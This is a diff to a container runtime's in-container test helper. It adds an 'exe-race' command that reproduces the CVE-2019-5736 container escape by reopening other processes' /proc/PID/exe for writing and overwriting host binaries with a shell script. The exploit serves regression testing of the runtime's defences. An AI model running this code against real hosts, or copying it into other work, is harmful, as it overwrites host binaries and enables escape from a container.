@@ -1,5 +1,5 @@
 /* hull-test-helper: a static binary copied into test rootfs images and run inside
- * containers to report what the kernel shows there (DESIGN.md, Test helper).
+ * containers to report what the kernel shows there (docs/architecture.md, Tests).
  * Usage: hull-test-helper COMMAND [ARGS...]; prints results on stdout, exits 0 on success. */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -340,6 +340,83 @@ static _Noreturn void cmd_pause(void) {
   for (;;) pause();
 }
 
+/* exe-race SECONDS: CVE-2019-5736 by an attacker with CAP_SYS_PTRACE, who is not stopped by
+ * non-dumpable processes. Until SECONDS pass, keeps scanning /proc and opening
+ * /proc/PID/exe (O_PATH) of every other process, keeping an fd per distinct file that is not
+ * the container's own (a path that resolves to the same file in here); and keeps reopening
+ * each through /proc/self/fd/N for writing and writing it: refused (ETXTBSY) while a process
+ * runs that binary, accepted once none does if the file is writable. Stops early once STOP
+ * exists. Prints "opened: DEV:INO TARGET" per file, then "write DEV:INO: ok|ERRNO" (the last
+ * outcome). */
+#define RACE_MAX 32
+static int cmd_exe_race(const char* seconds, const char* stop) {
+  struct timespec now, end;
+  clock_gettime(CLOCK_MONOTONIC, &end);
+  end.tv_sec += atoi(seconds);
+  int fds[RACE_MAX], done[RACE_MAX], errs[RACE_MAX], n = 0;
+  struct stat sts[RACE_MAX];
+  char targets[RACE_MAX][256];
+  pid_t self = getpid();
+  for (;;) {
+    clock_gettime(CLOCK_MONOTONIC, &now);
+    if (now.tv_sec > end.tv_sec || (now.tv_sec == end.tv_sec && now.tv_nsec >= end.tv_nsec)) break;
+    /* One more round of writes after the stop file appears: the caller's hull calls are over. */
+    int last = stop && access(stop, F_OK) == 0;
+    DIR* d = opendir("/proc");
+    struct dirent* e;
+    while (d && (e = readdir(d)) && n < RACE_MAX) {
+      int pid = atoi(e->d_name);
+      if (pid <= 0 || pid == self) continue;
+      char path[64];
+      snprintf(path, sizeof path, "/proc/%d/exe", pid);
+      int fd = open(path, O_PATH | O_CLOEXEC);
+      if (fd < 0) continue;
+      struct stat st, here;
+      int known = fstat(fd, &st) < 0;
+      for (int i = 0; i < n && !known; i++)
+        known = sts[i].st_dev == st.st_dev && sts[i].st_ino == st.st_ino;
+      char self_fd[64], target[256] = "";
+      snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fd);
+      ssize_t len = readlink(self_fd, target, sizeof target - 1);
+      if (len > 0) target[len] = 0;
+      /* The container's own programs: attacking them proves nothing. */
+      if (!known && stat(target, &here) == 0 && here.st_dev == st.st_dev &&
+          here.st_ino == st.st_ino)
+        known = 1;
+      if (known) {
+        close(fd);
+        continue;
+      }
+      fds[n] = fd;
+      sts[n] = st;
+      done[n] = 0;
+      errs[n] = 0;
+      snprintf(targets[n], sizeof targets[n], "%s", target);
+      n++;
+    }
+    if (d) closedir(d);
+    for (int i = 0; i < n; i++) {
+      if (done[i]) continue;
+      char self_fd[64];
+      snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fds[i]);
+      int w = open(self_fd, O_WRONLY | O_CLOEXEC);
+      long rc = w < 0 ? -1 : write(w, "#!/bin/sh\necho hacked\n", 22);
+      errs[i] = errno;
+      if (w >= 0) close(w);
+      if (rc >= 0) done[i] = 1;
+    }
+    if (last) break;
+  }
+  for (int i = 0; i < n; i++)
+    printf("opened: %u:%lu %s\n", (unsigned)sts[i].st_dev, (unsigned long)sts[i].st_ino,
+           targets[i]);
+  for (int i = 0; i < n; i++)
+    printf("write %u:%lu: %s\n", (unsigned)sts[i].st_dev, (unsigned long)sts[i].st_ino,
+           done[i] ? "ok" : outcome(-1, errs[i]));
+  printf("done\n");
+  return 0;
+}
+
 int main(int argc, char** argv) {
   if (argc < 2) return usage();
   if (!strcmp(argv[1], "pause")) cmd_pause();
@@ -351,6 +428,7 @@ int main(int argc, char** argv) {
   if (!strcmp(cmd, "ids")) return cmd_ids();
   if (!strcmp(cmd, "open")) return cmd_open(argc, argv);
   if (!strcmp(cmd, "syscall") && argc > 2) return cmd_syscall(argv[2]);
+  if (!strcmp(cmd, "exe-race") && argc > 2) return cmd_exe_race(argv[2], argc > 3 ? argv[3] : NULL);
   if (!strcmp(cmd, "exe-attack") && argc > 3) return cmd_exe_attack(argv[2], argv[3]);
   if (!strcmp(cmd, "memhog")) return cmd_memhog(argc, argv);
   if (!strcmp(cmd, "cpuburn")) return cmd_cpuburn(argc, argv);
